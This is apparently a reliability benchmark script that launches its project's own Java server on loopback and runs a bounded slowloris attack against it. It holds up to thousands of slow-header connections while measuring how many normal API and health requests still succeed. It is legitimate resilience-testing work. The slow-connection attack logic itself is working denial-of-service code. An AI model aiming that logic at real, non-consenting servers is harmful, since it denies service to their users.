#!/usr/bin/python3
"""A bounded slowloris against the packaged jar (docs/reliability.md, "Attacks, before and after").

Starts the jar on 127.0.0.1 with the actuator on a port of its own, then opens CONNECTIONS connections from
ATTACKER (another loopback address, 127.0.0.2) that each send a request line and then one header byte every
INTERVAL seconds, reopening those the server closes (at most REOPEN per round), as a slowloris tool does.
Meanwhile, from 127.0.0.1, it sends a small API request every PROBE seconds and asks /actuator/health on the
management port every second. Loopback only; bounded in connections, time (SECONDS) and bytes; it stops itself,
closes every socket and stops the server. Prints the share of small requests answered 200 within 2 s and of
health checks answered, and how many attack connections were open at the end.

  GLOROT_JAR=target/glorot-*.jar CONNECTIONS=8300 SECONDS=60 bench/slowloris.py

Mind `ulimit -n`: the attacker and the server each need a file descriptor per connection.
"""
import glob
import os
import resource
import socket
import subprocess
import sys
import threading
import time
import urllib.request

JAR = os.environ.get("GLOROT_JAR") or [j for j in glob.glob("target/glorot-*.jar") if "plain" not in j][0]
CONNECTIONS = int(os.environ.get("CONNECTIONS", "8300"))
INTERVAL = float(os.environ.get("INTERVAL", "4"))
SECONDS = float(os.environ.get("SECONDS", "60"))
ATTACKER = os.environ.get("ATTACKER", "127.0.0.2")
REOPEN = int(os.environ.get("REOPEN", "2000"))
PROBE = float(os.environ.get("PROBE", "0.25"))
EXTRA = os.environ.get("SERVER_ARGS", "").split()


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def main():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < CONNECTIONS + 200:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, CONNECTIONS + 1000), hard))
    port, mport = free_port(), free_port()
    os.makedirs("target", exist_ok=True)
    log = open("target/slowloris-server.log", "w")
    server = subprocess.Popen(["java", "-Xmx512m", "-jar", JAR, "--server.address=127.0.0.1",
                               "--server.port=%d" % port, "--management.server.port=%d" % mport,
                               "--management.server.address=127.0.0.1"] + EXTRA,
                              stdout=log, stderr=subprocess.STDOUT)
    attack = []
    stop = threading.Event()
    stats = {"opened": 0, "reopened": 0, "open_at_end": 0}
    try:
        for _ in range(240):
            try:
                urllib.request.urlopen("http://127.0.0.1:%d/actuator/health" % mport, timeout=2).read()
                break
            except Exception:
                time.sleep(0.5)
        else:
            sys.exit("the server did not start")

        def connect():
            s = socket.socket()
            s.setblocking(False)
            s.bind((ATTACKER, 0))
            try:
                s.connect(("127.0.0.1", port))
            except BlockingIOError:
                pass
            return [s, 0]

        def attacker():
            # ramp up over the first interval, then one byte per connection per interval
            for i in range(CONNECTIONS):
                if stop.is_set():
                    return
                try:
                    attack.append(connect())
                    stats["opened"] += 1
                except OSError:
                    time.sleep(0.01)
                if i % 500 == 499:
                    time.sleep(INTERVAL / (CONNECTIONS / 500))
            head = b"GET /v1/weights?shape=2,2 HTTP/1.1\r\nHost: x\r\n"
            while not stop.is_set():
                start = time.monotonic()
                reopened = 0
                for entry in attack:
                    s, sent = entry
                    try:
                        data = head if sent == 0 else b"X-a: b\r\n"[(sent - len(head)) % 8:][:1]
                        n = s.send(data)
                        entry[1] += n
                    except BlockingIOError:
                        pass
                    except OSError:
                        s.close()
                        if reopened < REOPEN:
                            try:
                                entry[:] = connect()
                                reopened += 1
                                stats["reopened"] += 1
                            except OSError:
                                entry[:] = [socket.socket(), 0]
                    if stop.is_set():
                        return
                stop.wait(max(0.0, INTERVAL - (time.monotonic() - start)))

        t = threading.Thread(target=attacker, daemon=True)
        t.start()
        time.sleep(INTERVAL * 2)  # let the attack settle
        end = time.monotonic() + SECONDS
        small_ok = small_total = health_ok = health_total = 0
        latencies = []
        next_health = 0
        n = 0
        while time.monotonic() < end:
            n += 1
            t0 = time.monotonic()
            try:
                with urllib.request.urlopen("http://127.0.0.1:%d/v1/weights?shape=8,8&format=raw&seed=%d"
                                            % (port, n), timeout=5) as r:
                    ok = r.status == 200 and len(r.read()) == 256
            except Exception:
                ok = False
            dt = time.monotonic() - t0
            latencies.append(dt)
            small_total += 1
            small_ok += ok and dt <= 2.0
            if time.monotonic() >= next_health:
                next_health = time.monotonic() + 1
                health_total += 1
                try:
                    t1 = time.monotonic()
                    urllib.request.urlopen("http://127.0.0.1:%d/actuator/health" % mport, timeout=2).read()
                    health_ok += time.monotonic() - t1 <= 2.0
                except Exception:
                    pass
            time.sleep(max(0.0, PROBE - (time.monotonic() - t0)))
        open_now = 0
        for s, _ in attack:
            try:
                s.getpeername()
                open_now += 1
            except OSError:
                pass
        stats["open_at_end"] = open_now
        try:
            metrics = urllib.request.urlopen("http://127.0.0.1:%d/actuator/prometheus" % mport, timeout=5).read()
            meters = [l for l in metrics.decode().splitlines() if l.startswith("glorot_transport_failures")]
        except Exception as e:
            meters = ["metrics unavailable: %s" % e]
    finally:
        stop.set()
        for s, _ in attack:
            try:
                s.close()
            except OSError:
                pass
        server.terminate()
        try:
            server.wait(timeout=40)
        except subprocess.TimeoutExpired:
            server.kill()
        log.close()
    latencies.sort()
    pct = lambda p: latencies[min(len(latencies) - 1, int(p * len(latencies)))] * 1000
    print("jar %s %s; %d connections from %s, one header byte every %.0f s, %.0f s measured"
          % (JAR, " ".join(EXTRA), CONNECTIONS, ATTACKER, INTERVAL, SECONDS))
    print("attack: opened %d, reopened %d, open at the end %d" % (stats["opened"], stats["reopened"],
                                                                 stats["open_at_end"]))
    print("small API requests: %d/%d (%.1f %%) answered 200 within 2 s; latency p50 %.0f ms, p90 %.0f ms, max %.0f ms"
          % (small_ok, small_total, 100.0 * small_ok / small_total, pct(0.5), pct(0.9), latencies[-1] * 1000))
    print("health on the management port: %d/%d answered within 2 s" % (health_ok, health_total))
    for line in meters:
        print("  " + line)


if __name__ == "__main__":
    main()
